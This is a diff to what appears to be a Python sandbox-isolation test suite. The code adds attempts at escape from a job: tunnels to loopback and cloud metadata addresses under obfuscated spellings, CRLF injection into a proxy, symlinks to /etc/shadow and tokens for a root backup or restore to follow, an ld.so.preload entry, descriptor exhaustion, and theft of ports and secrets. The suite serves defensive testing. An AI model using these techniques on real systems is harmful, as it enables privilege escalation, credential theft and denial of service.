@@ -12,6 +12,9 @@ is ``done`` (a wall has a hole, or there is none), ``denied``, or ``absent``: th
 nothing of the kind.  Nothing that is done does harm: what is written is taken back, signals are
 those that nobody hears, and floods have an end.
 
+Some attempts need something of the world around: a crash of the server, a call of a neighbour, a
+backup by root.  They write a request into their own bucket, and ``world.py`` does it and answers.
+
 A new attempt is a function with the decorator ``attempt``; it returns what it got, in a few words,
 and raises OSError or Denied where it could not.  ``expected.py`` must then say what each mode does.
 """
@@ -19,23 +22,29 @@ and raises OSError or Denied where it could not.  ``expected.py`` must then say 
 import contextlib
 import ctypes
 import fcntl
+import functools
 import glob
+import http.client
+import itertools
 import json
 import mmap
 import os
 import resource
 import signal
 import socket
+import ssl
 import subprocess
 import sys
 import time
 import urllib.error
 import urllib.request
+from concurrent.futures import ThreadPoolExecutor
 
 ATTEMPTS = {}
 LIBC = ctypes.CDLL(None, use_errno=True)
 SECRET = "the secret of beta"
-FACTS_S_MAX = 120
+FACTS_S_MAX = 300
+REQUESTS = itertools.count()
 
 
 class Denied(Exception):
@@ -114,6 +123,15 @@ def in_child(function, *arguments):
     if not is_done:
         raise Denied(words)
     return words
+
+
+def request(facts, words):
+    """Have the world around do something; what it answers."""
+    place = os.path.join(facts["own_bucket"], f"request-{next(REQUESTS)}")
+    with open(f"{place}.draft", "w") as file:
+        file.write(words)
+    os.rename(f"{place}.draft", place)
+    return facts_of(f"{place}.answer")
 
 
 # ---- files that are somebody else's ----
@@ -338,12 +356,54 @@ def order_foreign_supervisor(facts):
     raise Denied("sent, and not obeyed")
 
 
+@attempt("supervisor")
+def forge_log_of_foreign_job(facts):
+    """Send lines to its supervisor, with the secret where that can be read."""
+    message = {"do": "log", "task": "master-replica-0", "lines": [["forged by alpha", "ERROR"]]}
+    with contextlib.suppress(OSError), open(facts["foreign_attempt"] + "/orders.key") as file:
+        message["key"] = json.load(file)
+    folder = os.open(facts["foreign_attempt"], os.O_PATH)
+    try:
+        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
+            sender.sendto(json.dumps(message).encode(), f"/proc/self/fd/{folder}/control")
+    finally:
+        os.close(folder)
+    if "forged by alpha" not in request(facts, "read log of neighbour"):
+        raise Denied("sent, and not in its log")
+    return "its log has a line of ours"
+
+
+@attempt("supervisor")
+def rewrite_log_of_foreign_job(facts):
+    folder = os.path.join(facts["foreign_attempt"], "log")
+    return opened_for_writing(os.path.join(folder, os.listdir(folder)[0]))
+
+
+@attempt("supervisor")
+def take_ports_from_holder(facts):
+    """Say to the process that keeps the server's ports that this is the next server."""
+    message = {"do": "hello"}
+    with contextlib.suppress(OSError), open(facts["data"] + "/ports.json") as file:
+        message["secret"] = json.load(file)["secret"]
+    folder = os.open(facts["data"], os.O_PATH)
+    try:
+        with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as channel:
+            channel.settimeout(30)
+            channel.connect(f"/proc/self/fd/{folder}/ports")
+            channel.send(json.dumps({"secret": "guessed", **message}).encode())
+            if not channel.recv(1 << 12):
+                raise Denied("it is cut off")
+    finally:
+        os.close(folder)
+    return "it is taken for the server"
+
+
 # ---- other processes ----
 
 
 def targets(function):
-    """Make one attempt for each: the server, the supervisor, a replica of another project."""
-    for name in ("server", "supervisor", "foreign_job"):
+    """Make one attempt for each: the server, its ports' holder, the supervisor, a foreign job."""
+    for name in ("server", "holder", "supervisor", "foreign_job"):
 
         def one(facts, name=name):
             if not facts.get(name):
@@ -447,6 +507,16 @@ def slow_down(pid, _process):
     return "its priority"
 
 
+@attempt("processes")
+def find_foreign_attempt_in_command_lines(facts):
+    """Where its control socket lies, as the first attack had it."""
+    for path in glob.glob("/proc/[0-9]*/cmdline"):
+        with contextlib.suppress(OSError), open(path, "rb") as file:
+            if os.fsencode(facts["foreign_attempt"]) in file.read():
+                return path
+    raise Denied("no command line has it")
+
+
 # ---- sockets and ports ----
 
 
@@ -455,6 +525,38 @@ def connected(kind, address):
         found.settimeout(10)
         found.connect(address)
     return f"connected to {address!r}"
+
+
+#: Loopback, and addresses at which networks of jobs and containers have the machine or replicas.
+NEAR = (
+    "127.0.0.1", "127.0.0.2", "::1",
+    "198.18.0.1", "198.18.0.2", "198.18.0.3", "198.18.0.16", "198.18.0.17",
+    "10.0.2.2", "10.0.2.100",
+)  # fmt: skip
+
+
+def said_at(address, port):
+    """The first bytes of what answers to a request of HTTP; none where nothing does."""
+    try:
+        with socket.create_connection((address, port), timeout=3) as client:
+            client.sendall(b"GET /healthz HTTP/1.0\r\n\r\n")
+            return client.recv(1 << 12)
+    except OSError:
+        return b""
+
+
+def connected_nearby(facts, port, wanted):
+    """Look for a TCP port at all addresses that may be the machine's or a neighbour's.
+
+    ``wanted`` is in the first bytes that come from there.
+    """
+    addresses = (*NEAR, *(each.strip("[]") for each in facts["own_addresses"]))
+    with ThreadPoolExecutor(len(addresses)) as pool:
+        heads = {each: pool.submit(said_at, each, port) for each in addresses}
+    reached = [address for address, head in heads.items() if wanted in head.result()]
+    if reached:
+        return f"port {port} of {', '.join(reached)}"
+    raise Denied("at no address")
 
 
 @attempt("sockets")
@@ -477,25 +579,30 @@ def connect_to_abstract_socket(facts):
 
 @attempt("sockets")
 def connect_to_port_of_foreign_job(facts):
-    return connected(socket.AF_INET, ("127.0.0.1", facts["foreign_port"]))
+    """It listens at all addresses that it has."""
+    return connected_nearby(facts, facts["foreign_port"], b"the port of beta")
 
 
 @attempt("sockets")
 def connect_to_port_of_server(facts):
-    return connected(socket.AF_INET, ("127.0.0.1", facts["server_port"]))
+    return connected_nearby(facts, facts["server_port"], b"HTTP/1")
 
 
 @attempt("sockets")
 def find_way_to_metadata(_facts):
     """Where clouds hand out credentials of the machine; a datagram socket asks for the route."""
     ways, fault = [], None
-    for address in ("169.254.169.254", "192.0.0.192", "168.63.129.16", "100.100.100.200"):
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
-            try:
-                asking.connect((address, 80))
-                ways.append(address)
-            except OSError as error:
-                fault = error
+    named = ("169.254.169.254", "192.0.0.192", "168.63.129.16", "100.100.100.200")
+    four = [(each, 80) for each in named]
+    six = [("fe80::1", 80, 0, index) for index, _ in socket.if_nameindex()]
+    for address in (*four, *six):
+        family = socket.AF_INET if len(address) == 2 else socket.AF_INET6
+        try:
+            with socket.socket(family, socket.SOCK_DGRAM) as asking:
+                asking.connect(address)
+                ways.append(address[0])
+        except OSError as error:
+            fault = error
     if not ways:
         raise fault
     return "a way to " + ", ".join(ways)
@@ -513,30 +620,195 @@ def use_api_without_token(facts):
         raise Denied(str(error.reason)) from None
 
 
-#: Spellings of the loopback and of the metadata server of clouds, and a line feed for a proxy.
-OWN_HOSTS = (
-    "localhost", "127.0.0.1", "127.1", "2130706433", "0x7f.1", "0.0.0.0", "[::1]",
-    "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "169.254.169.254", "[::ffff:a9fe:a9fe]", "x\n",
-)  # fmt: skip
+@attempt("neighbours")
+def keep_port_from_foreign_job(facts):
+    """Listen at a port of its choice, as Ray or torchrun would need it in another job."""
+    with socket.create_server(("", 0)) as listener:
+        port = listener.getsockname()[1]
+        answer = request(facts, f"bind neighbour {port}")
+    if answer == "bound":
+        raise Denied("the other job has the port as well")
+    return f"the other job gets {answer}"
 
 
-@attempt("supervisor")
-def tunnel_to_machine_by_gateway(facts):
-    """The supervisor's group: what builds packages has no gateway."""
+# ---- the gateway ----
+
+
+def gateway():
+    """Its host and port."""
     place = os.environ.get("GCE_METADATA_HOST")
     if place is None:
         raise Denied("there is no gateway")
-    host, _, port = place.partition(":")
-    heads = []
-    for own in OWN_HOSTS:
-        with socket.create_connection((host, int(port)), timeout=30) as gateway:
-            gateway.settimeout(30)
-            gateway.sendall(f"CONNECT {own}:{facts['server_port']} HTTP/1.1\r\n\r\n".encode())
-            heads.append(gateway.recv(1 << 12).split(b"\r\n")[0].decode())
-    opened = [head for head in heads if " 200 " in head]
+    host, _, port = place.rpartition(":")
+    return host, int(port)
+
+
+def said_by_gateway(data):
+    """The first line that it answers with."""
+    with socket.create_connection(gateway(), timeout=30) as client:
+        client.sendall(data)
+        return client.recv(1 << 12).split(b"\r\n")[0].decode()
+
+
+def tunnel(host, port):
+    return f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode()
+
+
+#: Places of this machine, its links and its platform, by what they are.
+PLACES = {
+    "loopback": ("localhost", "a.localhost", "127.0.0.1", "127.8.8.8", "0.0.0.0", "[::1]", "[::]"),
+    "link_local": (
+        "169.254.169.254", "192.0.0.192", "168.63.129.16", "[fe80::1]", "[fd00:ec2::254]",
+    ),
+    "mapped_addresses": (
+        "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]",
+        "[64:ff9b:1::a9fe:a9fe]", "[::ffff:a9fe:a9fe]", "[2002:7f00:1::]", "[fe80::1%25eth0]",
+    ),
+    "other_spellings": (
+        "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "0", "0xa9fea9fe", "localhost.",
+    ),
+}  # fmt: skip
+
+
+def lead_tunnels(places, port):
+    """Raises Denied where none is opened."""
+    heads = {place: said_by_gateway(tunnel(place, port)) for place in places}
+    opened = [place for place, head in heads.items() if " 200 " in head]
     if not opened:
-        raise Denied("; ".join(sorted(set(heads)))[:200])
-    return f"{len(opened)} tunnels"
+        raise Denied("; ".join(sorted(set(heads.values())))[:200])
+    return f"tunnels to {', '.join(opened)}"
+
+
+for kind, some in PLACES.items():
+    ATTEMPTS[f"tunnel_to_{kind}"] = (
+        "gateway",
+        lambda facts, some=some: lead_tunnels(some, facts["server_port"]),
+    )
+
+
+@attempt("gateway")
+def tunnel_to_addresses_of_machine(facts):
+    """Those at which other machines reach it."""
+    return lead_tunnels(facts["own_addresses"], facts["server_port"])
+
+
+#: Where a proxy of the tests says that there is something; no machine has the address.
+ELSEWHERE = "198.51.100.7"
+
+
+@attempt("gateway")
+def slip_lines_to_proxy(facts):
+    """The machine's proxy gets heads with the server's credentials: add a line to one."""
+    slips = (
+        f"CONNECT {ELSEWHERE}\n:443 HTTP/1.1\r\n\r\n",
+        f"CONNECT {ELSEWHERE}:443\nX-Hostile: yes HTTP/1.1\r\n\r\n",
+        "CONNECT x\nX-Hostile:443 HTTP/1.1\r\n\r\n",
+        "CONNECT x\rX-Hostile:443 HTTP/1.1\r\n\r\n",
+        f"CONNECT {ELSEWHERE}%0aX-Hostile:443 HTTP/1.1\r\n\r\n",
+        f"CONNECT {ELSEWHERE}:443 HTTP/1.1\r\nHost: x\nX-Hostile: yes\r\n\r\n",
+    )
+    heads = [said_by_gateway(slip.encode()) for slip in slips]
+    for head in request(facts, "read heads of proxy"):
+        if "hostile" in head.lower() or "\n" in head.replace("\r\n", ""):
+            return f"the proxy got {head!r}"
+    raise Denied("; ".join(sorted(set(heads)))[:200])
+
+
+@attempt("gateway")
+def hold_all_tunnels(facts):
+    held = []
+    try:
+        for _ in range(facts["tunnels"]):
+            client = socket.create_connection(gateway(), timeout=30)
+            held.append(client)
+            client.sendall(tunnel(ELSEWHERE, 443))
+            if b" 200 " not in client.recv(1 << 12):
+                break
+        answer = request(facts, "tunnel of neighbour")
+    finally:
+        for client in held:
+            client.close()
+    if len(held) < 2 or "200" in answer:
+        raise Denied(f"{len(held) - 1} tunnels, and the other job has one")
+    return f"the other job gets {answer}"
+
+
+@attempt("gateway")
+def use_up_descriptors_of_server(facts):
+    """Connect in a loop, and hold each connection."""
+    gateway_at = gateway()
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    held = []
+    try:
+        with contextlib.suppress(OSError):
+            while len(held) < min(facts["connections"], hard - 100):
+                held += [socket.create_connection(gateway_at, timeout=3)]
+        answer = request(facts, "call of neighbour")
+    finally:
+        for client in held:
+            client.close()
+        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
+    words = f"{len(held)} connections, {answer['descriptors']} descriptors of the server"
+    if answer["status"] == 200 and answer["descriptors"] < facts["descriptors_max"]:
+        raise Denied(f"{words}; the other job is answered")
+    return f"{words}; the other job gets {answer['status']}"
+
+
+@attempt("gateway")
+def send_two_hosts(_facts):
+    """Two readers may take different ones."""
+    hosts = "Host: metadata.google.internal\r\nHost: storage.googleapis.com\r\n"
+    path = "/computeMetadata/v1/project/project-id"
+    head = said_by_gateway(
+        f"GET {path} HTTP/1.1\r\n{hosts}Metadata-Flavor: Google\r\n\r\n".encode()
+    )
+    if " 200 " not in head:
+        raise Denied(head)
+    return head
+
+
+LOGGING = "logging.googleapis.com"
+
+
+def certificates():
+    """What programs of the job trust."""
+    return ssl.create_default_context(cafile=os.environ["REQUESTS_CA_BUNDLE"])
+
+
+@attempt("gateway")
+def lose_log_entries(facts):
+    """Write more at once than a server reads: are they taken, and dropped?"""
+    host, port = gateway()
+    client = http.client.HTTPSConnection(host, port, timeout=60, context=certificates())
+    client.set_tunnel(LOGGING, 443)
+    entry = {"logName": "projects/p/logs/l", "resource": {"type": "global"}, "textPayload": "x"}
+    body = json.dumps({"entries": [entry] * facts["entries"]})
+    client.request("POST", "/v2/entries:write", body, {"Content-Type": "application/json"})
+    status = client.getresponse().status
+    client.close()
+    if status != 200:
+        raise Denied(f"status {status}")
+    return f"{facts['entries']} entries are taken"
+
+
+@attempt("gateway")
+def connect_to_grpc_of_gateway(facts):
+    """It takes the name of a socket for the caller: connect with a name of one's own."""
+    place = gateway()
+    context = certificates()
+    context.set_alpn_protocols(["h2"])
+    with socket.create_connection(place, timeout=60) as plain:
+        plain.sendall(tunnel(LOGGING, 443))
+        plain.recv(1 << 12)
+        with context.wrap_socket(plain, server_hostname=LOGGING) as client:
+            client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0)))
+            client.recv(1 << 12)  # now it listens
+            names = request(facts, "list sockets of server")
+            for name in names:
+                with contextlib.suppress(OSError):
+                    return connected(socket.AF_UNIX, name.replace("@", "\0", 1))
+    raise Denied(f"none of {len(names)} names leads to it")
 
 
 # ---- its own environment ----
@@ -544,8 +816,12 @@ def tunnel_to_machine_by_gateway(facts):
 
 @attempt("environment")
 def find_secrets_in_environment(facts):
-    """Variables of the server that a job has no use for."""
-    found = sorted(name for name in facts["secret_variables"] if name in os.environ)
+    """Variables of the server that a job has no use for, its proxy's password among them."""
+    found = sorted(
+        name
+        for name, value in os.environ.items()
+        if name in facts["secret_variables"] or facts["proxy_password"] in value
+    )
     if not found:
         raise Denied("none of them is there")
     return ", ".join(found)
@@ -889,6 +1165,23 @@ def watch_file_system(number):
 
 
 @attempt("kernel")
+def read_packets_of_network(_facts):
+    """A socket that gets all packets, other programs' too."""
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)).close()
+    return "AF_PACKET"
+
+
+@attempt("kernel")
+def change_its_network(_facts):
+    """Set the flags of the loopback device to those that they are."""
+    get_flags, set_flags = 0x8913, 0x8914
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
+        device = fcntl.ioctl(any_socket, get_flags, b"lo".ljust(40, b"\0"))
+        fcntl.ioctl(any_socket, set_flags, device)
+    return "the flags of lo"
+
+
+@attempt("kernel")
 def talk_to_hypervisor(_facts):
     """A socket to what runs this virtual machine."""
     socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
@@ -965,6 +1258,153 @@ def plant_links(facts):
     return f"{made} links"
 
 
+@attempt("links")
+def lead_bucket_elsewhere(facts):
+    """A bucket may be a folder of the machine: link from there to what only the server reads."""
+    folder = facts["folder_bucket"]
+    os.makedirs(folder, exist_ok=True)
+    targets = {
+        "token": facts["token"],
+        "shadow": "/etc/shadow",
+        "etc": "/etc",
+        "home": facts["home"],
+    }
+    for name, target in targets.items():
+        os.symlink(target, os.path.join(folder, name))
+    answer = request(facts, "use folder bucket")
+    if answer:
+        return f"the server followed {answer}"
+    raise Denied("the server follows no link")
+
+
+#: Of a folder that a backup has: what a restore makes of the link in its place.
+RESTORED = "to-be-restored"
+
+
+@attempt("restarts")
+def lead_backup_elsewhere(facts):
+    """Have root's backup read what a link leads to."""
+    folder = os.path.join(facts["own_bucket"], RESTORED)
+    os.mkdir(folder)
+    with open(os.path.join(folder, "ld.so.preload"), "w") as file:
+        file.write("/tmp/hostile.so")
+    for name, target in {"token": facts["token"], "all": facts["data"]}.items():
+        os.symlink(target, os.path.join(folder, name))
+    answer = backup(facts)
+    if answer["followed"]:
+        return f"the backup has {answer['followed']}"
+    raise Denied("the backup follows no link")
+
+
+@functools.lru_cache(maxsize=1)
+def backup_of(bucket):
+    """One backup does for all attempts; a file of holes lies in its way."""
+    with open(os.path.join(bucket, "holes"), "wb") as file:
+        file.truncate(2 << 30)
+    return request({"own_bucket": bucket}, "back up")
+
+
+def backup(facts):
+    return backup_of(facts["own_bucket"])
+
+
+@attempt("restarts")
+def swell_backup(facts):
+    """Have a file of holes fill the disk that backups lie on."""
+    count = backup(facts)["bytes_of_holes"]
+    if count > 1 << 20:
+        return f"{count} bytes"
+    raise Denied(f"{count} bytes are backed up of a file of 2 GiB that is a hole")
+
+
+@attempt("restarts")
+def lead_restore_elsewhere(facts):
+    """Have root's restore write where a link leads, with the name that the job has chosen."""
+    folder = os.path.join(facts["own_bucket"], RESTORED)
+    backup(facts)
+    os.rename(folder, f"{folder}-before")
+    os.symlink(facts["home"], folder)
+    answer = request(facts, "restore")
+    if answer["made"]:
+        return f"root has made {answer['made']}"
+    raise Denied("the restore follows no link")
+
+
+# ---- ports while the server is away ----
+
+
+def bound(port):
+    """Listen at a port, in each of the ways that there are.  Raises OSError."""
+    ways = ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT))
+    for host, options in itertools.product(("127.0.0.1", ""), ways):
+        listener = socket.socket()
+        try:
+            for option in options:
+                listener.setsockopt(socket.SOL_SOCKET, option, 1)
+            listener.bind((host, port))
+            listener.listen(16)
+        except OSError as error:
+            listener.close()
+            fault = error
+        else:
+            listener.settimeout(1)  # the caller has connected by then
+            return listener
+    raise fault
+
+
+def bound_soon(port, rounds):
+    """Try in a loop, as a job does that waits for a server to be killed."""
+    for _ in range(rounds):
+        with contextlib.suppress(OSError):
+            return bound(port)
+    return bound(port)
+
+
+@functools.lru_cache(maxsize=1)
+def thefts_of(bucket, ports, holder, rounds):
+    """What came to the ports of the server while it was away: by port, bytes or a fault."""
+    facts = {"own_bucket": bucket}
+    request(facts, "kill server")
+    with contextlib.suppress(OSError):
+        os.kill(holder, signal.SIGKILL)  # without it the ports would be free
+    listeners, came = {}, {}
+    for port in ports:
+        try:
+            listeners[port] = bound_soon(port, rounds)
+        except OSError as error:
+            came[port] = error
+    request(facts, "call server")
+    for port, listener in listeners.items():
+        try:
+            with listener, listener.accept()[0] as client:
+                came[port] = client.recv(1 << 12).decode()
+        except OSError as error:
+            came[port] = error
+    request(facts, "start server")
+    return came
+
+
+def steal(facts, port):
+    ports = tuple(filter(None, (facts["server_port"], facts["gateway_port"])))
+    came = thefts_of(facts["own_bucket"], ports, facts["holder"]["pid"], facts["rounds"])[port]
+    if isinstance(came, OSError):
+        raise came
+    return f"got {came[:80]!r}"
+
+
+@attempt("restarts")
+def steal_port_of_api(facts):
+    """Bind in a loop to the port of a server that was killed; a client calls it with its token."""
+    return steal(facts, facts["server_port"])
+
+
+@attempt("restarts")
+def steal_port_of_gateway(facts):
+    if not facts["gateway_port"]:
+        raise Absent("there is no gateway")
+    return steal(facts, facts["gateway_port"])
+
+
 def facts_of(path):
     """The facts, which may be written only when the job runs."""
     until = time.monotonic() + FACTS_S_MAX
@@ -1004,8 +1444,9 @@ def outcome_of(name, facts):
 
 def outcomes(facts, groups=()):
     """Try everything, or what belongs to some groups."""
-    names = [name for name, (group, _) in ATTEMPTS.items() if not groups or group in groups]
-    return [outcome_of(name, facts) for name in names]
+    for name, (group, _) in ATTEMPTS.items():
+        if not groups or group in groups:
+            yield outcome_of(name, facts)
 
 
 def main():
